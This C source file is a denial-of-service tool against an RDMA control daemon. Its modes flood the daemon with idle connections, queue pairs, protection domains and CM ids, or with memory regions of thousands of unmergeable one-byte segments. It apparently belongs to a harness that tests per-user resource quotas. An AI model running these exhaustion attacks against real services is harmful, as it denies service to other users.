/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * shares mute|segments|qp|xrcd|pd|id: take as much of the daemon as it gives, until it says that this user may have no more.
 */
#include "raw.h"
#include "stuck.h"

#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

enum { TRIES = 4000, PER_SESSION = 20000, SEGMENTS = 65536, MRS = 300 };

static uint32_t pd, cq;

static int
make(int sock, uint32_t op, uint32_t *handle)
{
	struct ctl_req q = { .magic = CTL_MAGIC, .op = op };
	struct ctl_rsp r;
	int rc;

	if (op == CTL_QP_CREATE)
		q.qp_create = (struct ctl_qp_create_req){ .type = UROCE_QPT_RC, .pd = pd, .send_cq = cq, .recv_cq = cq,
							  .srq = UINT32_MAX, .cap = { 1, 1, 1, 1, 0 } };
	else if (op == CTL_CQ_CREATE)
		q.cq_create.cqe = 1;
	else if (op == CTL_CM_CREATE_ID)
		q.cm_create = (struct ctl_cm_create_req){ .ps = CTL_CM_PS_TCP, .qp_type = UROCE_QPT_RC };
	rc = raw_call(sock, &q, NULL, 0, &r);
	if (rc == ENOMEM || rc == EMFILE)
		printf("%.*s\n", (int)sizeof(r.message), r.message);
	if (rc == 0 && handle != NULL)
		*handle = op == CTL_CQ_CREATE ? r.cq_create.handle : r.handle.handle;
	return rc;
}

/** Connections that say nothing. Those that are closed after a while are made again. */
static void
mute(void)
{
	struct ctl_rsp r;
	bool begun = false;
	int sock;

	for (;;) {
		sock = raw_connect();
		/* Refused at once, or there is no answer. */
		if (!begun && sock > 240) {
			if (raw_receive(sock, &r, NULL, 0) == EMFILE)
				printf("%.*s\n", (int)sizeof(r.message), r.message);
			attack_begun();
			begun = true;
		}
		usleep(begun ? 1000 : 0);
		if (sock > TRIES) {
			for (int i = 3; i <= sock; i++)
				close(i);
		}
	}
}

/** Objects, in as many sessions as there have to be. */
static void
objects(uint32_t op)
{
	struct ctl_rsp r;
	int sock = -1, rc = 0;

	for (unsigned int s = 0; s < TRIES; s++) {
		sock = raw_try_open(&r);
		if (sock < 0 || make(sock, CTL_PD_ALLOC, &pd) != 0 || make(sock, CTL_CQ_CREATE, &cq) != 0)
			break;
		if (op == CTL_CM_CREATE_ID && make(sock, CTL_CM_OPEN, NULL) != 0)
			break;
		for (unsigned int i = 0; i < PER_SESSION; i++) {
			rc = make(sock, op, NULL);
			if (rc != 0)
				break;
		}
		/* By then the user has all that he may have, in sessions that have all that they may have. */
		if (s > 4)
			break;
	}
	attack_begun();
	for (;;) {
		if (sock >= 0)
			make(sock, op, NULL);
		usleep(1000);
	}
}

/** MRs of segments of a byte each, of alternating kinds, so that none can be joined. */
static int
scattered_mr(int sock)
{
	const uint64_t addr = UINT64_C(1) << 32;
	struct ctl_seg segs[CTL_SEGS_PER_MSG];
	struct ctl_req q;
	struct ctl_rsp r = { 0 };
	int rc = 0;

	for (uint32_t done = 0, n; done < SEGMENTS && rc == 0; done += n) {
		n = SEGMENTS - done < CTL_SEGS_PER_MSG ? SEGMENTS - done : CTL_SEGS_PER_MSG;
		q = (struct ctl_req){ .magic = CTL_MAGIC, .op = done + n < SEGMENTS ? CTL_MR_SEGS : CTL_MR_REG };
		if (q.op == CTL_MR_SEGS)
			q.mr_segs.nb_in_msg = n;
		else
			q.mr_reg = (struct ctl_mr_reg_req){ .pd = pd, .addr = addr, .iova = addr, .length = SEGMENTS,
							    .nb_segs = SEGMENTS, .nb_in_msg = n };
		memset(segs, 0, sizeof(segs));
		for (uint32_t i = 0; i < n; i++)
			segs[i] = (struct ctl_seg){ .va = addr + done + i, .length = 1, .offset = done + i,
						    .kind = (done + i) % 2 ? CTL_SEG_REMOTE : CTL_SEG_CONVERTED };
		rc = raw_send(sock, &q, segs, n * sizeof(segs[0]), NULL, 0);
		if (rc == 0)
			rc = raw_receive(sock, &r, NULL, 0);
	}
	if (rc != 0)
		printf("%.*s\n", (int)sizeof(r.message), r.message);
	return rc;
}

static void
segments(void)
{
	struct ctl_rsp r;
	unsigned int mrs = 0;
	int sock;

	for (unsigned int s = 0; s < 8; s++) {
		sock = raw_try_open(&r);
		if (sock < 0 || make(sock, CTL_PD_ALLOC, &pd) != 0)
			break;
		while (mrs < MRS && scattered_mr(sock) == 0)
			mrs++;
	}
	printf("%u MRs\n", mrs);
	attack_begun();
	for (;;)
		pause();
}

int
main(int argc, char **argv)
{
	static const struct {
		const char *name;
		uint32_t op;
	} kinds[] = { { "qp", CTL_QP_CREATE }, { "xrcd", CTL_XRCD_OPEN }, { "pd", CTL_PD_ALLOC }, { "id", CTL_CM_CREATE_ID } };
	struct rlimit l;

	if (argc != 2)
		attack_die("usage: shares mute|segments|qp|xrcd|pd|id");
	if (getrlimit(RLIMIT_NOFILE, &l) == 0) {
		l.rlim_cur = l.rlim_max;
		setrlimit(RLIMIT_NOFILE, &l);
	}
	if (strcmp(argv[1], "mute") == 0)
		mute();
	if (strcmp(argv[1], "segments") == 0)
		segments();
	for (unsigned int i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strcmp(argv[1], kinds[i].name) == 0)
			objects(kinds[i].op);
	attack_die("no such attack");
}
